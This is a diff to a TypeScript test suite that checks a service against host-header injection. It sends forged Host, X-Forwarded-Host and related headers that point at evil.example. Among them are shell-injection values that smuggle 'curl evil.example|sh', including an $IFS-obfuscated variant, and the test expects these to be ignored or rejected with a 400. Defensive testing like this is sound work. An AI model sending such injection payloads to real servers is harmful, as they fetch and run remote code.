@@ -71,13 +71,14 @@ describe('the agents', () => {
       const usual = (await service.ask().get(path)).text;
       for (const [name, value] of [
         ['Host', 'evil.example'],
-        ['Host', "';curl evil.example|sh;'"],
+        ['Host', "';curl$IFS'evil.example;';"],
         ['X-Forwarded-Host', 'evil.example'],
         ['Forwarded', 'host=evil.example;proto=http'],
         ['X-Forwarded-Proto', 'http'],
         ['X-Original-URL', 'https://evil.example/'],
       ] as const)
         assert.equal((await service.ask().get(path).set(name, value)).text, usual, `${name}: ${value}`);
+      await service.ask().get(path).set('Host', "';curl evil.example|sh;'").expect(400);
     }
   });
 
